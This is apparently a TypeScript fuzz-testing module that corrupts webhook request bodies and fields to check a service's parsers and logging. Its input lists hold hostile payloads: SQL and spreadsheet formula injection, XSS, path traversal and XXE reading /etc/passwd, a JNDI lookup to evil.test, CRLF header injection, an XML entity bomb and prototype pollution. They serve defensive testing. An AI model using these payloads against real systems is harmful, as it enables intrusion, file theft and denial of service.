import type { Random } from '../simulation/life/random.ts';

/** A customer whose data is in every body; it must be in no log line and no message. */
export const PERSON = {
  name: 'Zebedee Quillfeather',
  street: '4711 Planted Mews',
  email: 'zebedee.q@planted.test',
  phone: '+49 171 5550199',
} as const;

/** Typed into any field. A sale's number is the one text of a webhook that is logged, so it may show up there. */
export const TYPED = 'Quillfeather, 4711 Mews';

/** Texts that have broken parsers, shells, spreadsheets, databases and pages. */
const ODD_TEXTS = [
  '',
  ' ',
  '\0',
  '\ufeff',
  '\ud800',
  '\u202e reversed',
  'Ａ𝔘👨‍👩‍👧‍👦',
  "'; DROP TABLE orders; --",
  '=HYPERLINK("http://evil.test","x")',
  '@SUM(1+1)*cmd|calc',
  '<script>alert(1)</script>',
  ']]><evil/>',
  '&lol9;',
  '../../../../etc/passwd',
  '%00%0d%0aset-cookie:x=1',
  '$' + '{jndi:ldap://evil.test/a}',
  '{{7*7}}',
  'NaN',
  '-0',
  '1e999',
  '9007199254740993',
  '\r\n\r\nHTTP/1.1 200 OK',
  'x'.repeat(5_000),
  TYPED,
] as const;

/** Whole bodies that are no form of any request. */
const ODD_BODIES: ReadonlyArray<(random: Random) => string> = [
  () => '',
  () => 'null',
  () => '[]',
  () => '{}',
  () => '"text"',
  (random) => '['.repeat(random.between(10, 30_000)),
  (random) => nested(random.between(10, 5_000), '[', ']'),
  (random) => nested(random.between(10, 5_000), '{"a":', '}'),
  (random) => 'a='.repeat(random.between(1, 20_000)),
  (random) => `SaleID=${'{'.repeat(random.between(1, 5_000))}`,
  (random) => `${'saleid '.repeat(random.between(1, 2_000))}:`,
  (random) => `{"SaleID":"${'\\"'.repeat(random.between(1, 10_000))}`,
  (random) => `[${Array.from({ length: random.between(50, 3_000) }, () => '{"SaleID":"x"}').join(',')}]`,
  (random) => `<a>${'<b>'.repeat(random.between(1, 5_000))}`,
  (random) => `<a ${'b="c" '.repeat(random.between(1, 3_000))}/>`,
  (random) => `<a>${'&amp;'.repeat(random.between(1, 10_000))}</a>`,
  (random) => `<a>${'&#'.repeat(random.between(1, 10_000))}</a>`,
  (random) => `<!--${'-'.repeat(random.between(1, 10_000))}`,
  () =>
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><ShipNotice><OrderNumber>&x;</OrderNumber></ShipNotice>',
  () => bomb('ShipNotice'),
  () => '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"polluted":true}}}',
  () => '{"type":"a","type":"b","SaleID":"1","SaleID":"2"}',
  (random) => 'x'.repeat(random.pick([64 * 1024 + 1, 1024 * 1024 + 1])),
];

function nested(depth: number, open: string, close: string): string {
  return `${open.repeat(depth)}1${close.repeat(depth)}`;
}

/** Ten entities, each ten times the one before. */
function bomb(root: string): string {
  const entities = Array.from({ length: 9 }, (_, level) => {
    const inner = `&e${level};`.repeat(10);
    return `<!ENTITY e${level + 1} "${inner}">`;
  });
  return `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e0 "ha">${entities.join('')}]><${root}>&e9;</${root}>`;
}

/** The body with something wrong in it, or another one. */
export function spoilBody(body: string, random: Random): string {
  const spoil = random.pick([
    whole,
    change,
    change,
    cut,
    repeat,
    insert,
    insert,
    replaceValue,
    replaceValue,
    replaceValue,
  ]);
  return spoil(body, random);
}

function whole(_: string, random: Random): string {
  return ODD_BODIES[random.between(0, ODD_BODIES.length - 1)]?.(random) ?? '';
}

function change(body: string, random: Random): string {
  const at = random.between(0, body.length);
  return `${body.slice(0, at)}${String.fromCharCode(random.between(0, 0x2ff))}${body.slice(at + 1)}`;
}

function cut(body: string, random: Random): string {
  return body.slice(0, random.between(0, body.length));
}

function repeat(body: string, random: Random): string {
  const at = random.between(0, body.length);
  return `${body.slice(0, at)}${body.slice(random.between(0, at))}`;
}

function insert(body: string, random: Random): string {
  const at = random.between(0, body.length);
  return `${body.slice(0, at)}${pickText(random)}${body.slice(at)}`;
}

/** Another value where one stands: between quotes, or between tags. */
function replaceValue(body: string, random: Random): string {
  const values = [...body.matchAll(/"[^"]*"|>[^<]+</g)];
  const found = values[random.between(0, Math.max(0, values.length - 1))];
  if (found === undefined) return body;
  const [open, close] = [found[0][0] ?? '', found[0].at(-1) ?? ''];
  const value = random.pick([
    `${open}${pickText(random)}${close}`,
    open === '"' ? random.pick(['null', '[]', '{}', '-1', 'true', '1e400']) : '><a/><',
  ]);
  return `${body.slice(0, found.index)}${value}${body.slice(found.index + found[0].length)}`;
}

export function pickText(random: Random): string {
  return ODD_TEXTS[random.between(0, ODD_TEXTS.length - 1)] ?? '';
}

/** Some of the fields missing, changed, or joined by others. */
export function spoilFields(
  fields: Readonly<Record<string, string>>,
  random: Random,
): Record<string, string> {
  const entries = Object.entries(fields).flatMap(([name, value]): Array<[string, string]> => {
    const how = random.between(0, 9);
    if (how === 0) return [];
    if (how === 1) return [[name, pickText(random)]];
    if (how === 2) return [[name, `${value},${value}`]];
    if (how === 3) return [[name, change(value, random)]];
    return [[name, value]];
  });
  const odd = random.pick([
    '__proto__',
    'constructor',
    'x-forwarded-for',
    'content-length',
    'transfer-encoding',
    'cookie',
  ]);
  return Object.fromEntries([...entries, ...(random.chance(0.3) ? [[odd, pickText(random)]] : [])]);
}
